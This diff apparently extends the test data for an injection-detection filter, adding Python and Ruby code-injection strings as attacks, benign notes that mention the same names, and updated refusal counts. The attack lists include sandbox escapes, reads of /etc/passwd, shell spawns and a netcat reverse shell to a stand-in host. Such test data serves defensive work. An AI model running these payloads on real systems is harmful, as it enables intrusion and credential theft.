@@ -217,6 +217,27 @@ ATTACKS = {
         "/var//log/../../etc/passwd", "/etc/.//passwd", "file:/etc/passwd",
         "/proc//self//cmdline",
     ],
+    # Python and Ruby code outside a template (written before the rules
+    # python-injection and ruby-injection existed: 7 of 21 refused; then
+    # 21 of 21; and 6 more written after them: 6 of 6)
+    "r3-python-ruby": [
+        "__import__('os').system('id')",
+        "__import__(\"subprocess\").check_output(\"id\",shell=True)",
+        "().__class__.__bases__[0].__subclasses__()",
+        "''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()",
+        "[].__class__.__base__.__subclasses__()", "os.system('cat /etc/passwd')",
+        "os.popen(\"id\").read()", "eval(compile('print(1)','x','exec'))",
+        "exec(\"import os; os.system('ls')\")", "getattr(__builtins__,'ev'+'al')('1+1')",
+        "globals()['__builtins__']['eval']('1')", "lambda: __import__('os')",
+        "Kernel.exec('id')", "Kernel.system(\"ls -la\")", "%x(id)", "%x{cat /etc/passwd}",
+        "IO.popen('id').read", "Open3.capture2('id')", "Kernel.open('|id')",
+        "send(:system, 'id')", "instance_eval(\"system('id')\")",
+    ],
+    "r3-python-ruby-after": [
+        "__import__('pty').spawn('/bin/sh')",
+        "x.__class__.__init__.__globals__['os'].popen('id')", "os.execvp('sh', ['sh'])",
+        "Kernel.spawn('nc -e sh evil.example 1')", "%x[uname -a]", "IO.popen(['id']).read",
+    ],
     # (written after the third round's change: 20 of 20 refused)
     "r3-after-change": [
         "1' AND ascii(substring(version(),1,1))>52--", "1 or pg_sleep(3)--",
@@ -464,6 +485,32 @@ BENIGN = {
         "../images/team photo.jpg", "web/info.xml", "meta/info.json",
         "../images/logo.png", ".github/workflows/ci.yml",
     ],
+    # Python and Ruby named in notes (25 written with the rules, all pass;
+    # 15 written after them: 14 passed, self.__class__.__name__ passes
+    # since __class__ alone is no longer the walk)
+    "r3-python-ruby": [
+        "__init__ runs when the object is created", "the __class__ attribute names the type",
+        "Python's __import__ is rarely needed", "os.system() is discouraged; use subprocess",
+        "I call os.popen in old scripts", "Kernel panic on boot, help",
+        "the IO module handles files", "Open3 is a Ruby library", "%x in printf prints hex",
+        "use %x{} carefully in Ruby", "globals() returns a dict",
+        "getattr(obj, 'name') reads an attribute", "send the report to Bob",
+        "exec summary for Q3", "eval results: 92% accuracy", "lambda functions are anonymous",
+        "the __main__ module", "if __name__ == '__main__': main()", "print(os.getcwd())",
+        "subprocess.run(['ls'])", "class Foo(Base): pass", "obj.__dict__ holds attributes",
+        "Use IO.read to slurp a file", "Kernel#puts prints a line",
+        "system requirements: 8 GB RAM",
+    ],
+    "r3-python-ruby-after": [
+        "Override __getattr__ for lazy loading", "Why is __name__ == '__main__' needed?",
+        "The os module: os.path, os.environ, os.listdir", "subprocess.run(cmd, check=True)",
+        "Ruby's Kernel module is mixed into Object", "IO streams in Ruby are buffered",
+        "send(:method_name) calls a method by name", "class_eval is metaprogramming",
+        "Python's compile() builtin turns source into code objects",
+        "%x is the hex format code", "import os, sys", "from os import path",
+        "The __slots__ attribute saves memory",
+        "self.__class__.__name__ gives the class name", "Kernel.puts 'hello'",
+    ],
     # (written after the third round's change, to measure it on notes it
     # was not made from: 36 of 40 passed; "$(5)" passes since)
     "r3-after-change": [
@@ -572,11 +619,6 @@ KNOWN_MISSES = {
                          "resolved to a command",
     "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==": "a base64 Java stream of a HashMap: the "
                                              "serialized-object rule wants a gadget class",
-    "__import__('os').system('id')": "Python code: no rule knows __import__",
-    "().__class__.__bases__[0].__subclasses__()": "Python's object graph outside a "
-                                                  "template: ssti wants {{ }}",
-    "Kernel.exec('id')": "Ruby's Kernel module: no rule knows it",
-    "%x(id)": "Ruby's %x() command literal: no rule knows it",
 }
 KNOWN_FALSE_POSITIVES = {
     "SELECT count(*) FROM orders WHERE day = today() is our nightly report":
